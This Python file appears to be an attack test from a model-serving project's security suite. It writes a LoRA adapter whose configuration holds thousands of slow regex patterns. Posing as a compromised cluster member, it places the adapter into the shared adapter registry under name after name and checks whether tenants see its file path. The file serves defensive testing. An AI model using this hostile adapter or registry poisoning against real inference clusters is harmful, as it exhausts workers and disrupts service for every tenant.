"""A LoRA adapter whose configuration has thousands of slow patterns.

An administrator who loads a stranger's adapter starts this attack unknowingly. Here a compromised
member puts it into the list of adapters, from which all workers load it.
"""

import json
import tempfile
from itertools import count
from pathlib import Path

import numpy as np
from safetensors.numpy import save_file

from baton.checkpoints.adapter_checkpoint import CONFIG_FILE, WEIGHTS_FILE, target_modules
from baton.checkpoints.checkpoint import DEMO_MODEL, load_model_config
from baton.core.adapter import ADAPTER_DIGEST_BYTES, AdapterEntry
from baton.registry.adapters import RedisAdapterRegistry
from tests.attacks.malicious_member import CLUSTER
from tests.attacks.target import AttackTarget
from tests.attacks.uploads import CHAT

FINDING = "17: an adapter's patterns hold a thread, and its path is shown to tenants"

PATTERNS = 3000
RANK = 2
REQUESTS_PER_NAME = 6
MESSAGES = [{"role": "user", "content": "Hello"}]


async def attack(target: AttackTarget) -> None:
    """Have the adapter loaded under one new name after the other, and ask for it as a tenant."""
    registry = RedisAdapterRegistry(target.redis_url, CLUSTER, target.cluster_secret)
    with tempfile.TemporaryDirectory(prefix="hostile-adapter-") as folder:
        write_adapter(Path(folder))
        async with target.client() as client:
            for number in count():
                if target.is_over:
                    break
                name, digest = f"hostile-{number}", number.to_bytes(ADAPTER_DIGEST_BYTES, "big")
                await registry.put_adapter(AdapterEntry(name, folder, digest, DEMO_MODEL.name))
                for _ in range(REQUESTS_PER_NAME):
                    await target.sleep(1.0)
                    body = {"model": name, "messages": MESSAGES, "max_tokens": 4}
                    response = await target.post(client, CHAT, body)
                    if response is not None and folder in response.text:
                        target.record_violation("a tenant sees the adapter's path")
                await registry.remove_adapter(name)
    await registry.close()


def write_adapter(folder: Path) -> None:
    """Write an adapter for the demo model. Only its patterns are hostile."""
    patterns = {f".*.*[a-z]*{number}_": RANK for number in range(PATTERNS)}
    modules = target_modules(load_model_config(DEMO_MODEL))
    config = {
        "peft_type": "LORA",
        "r": RANK,
        "lora_alpha": RANK,
        "target_modules": "all-linear",
        "rank_pattern": patterns,
        "alpha_pattern": patterns,
    }
    weights = {}
    for module in modules:
        prefix = f"base_model.model.{module.name}"
        weights[f"{prefix}.lora_A.weight"] = np.zeros((RANK, module.ins), np.float32)
        weights[f"{prefix}.lora_B.weight"] = np.zeros((module.outs, RANK), np.float32)
    (folder / CONFIG_FILE).write_text(json.dumps(config))
    save_file(weights, folder / WEIGHTS_FILE)
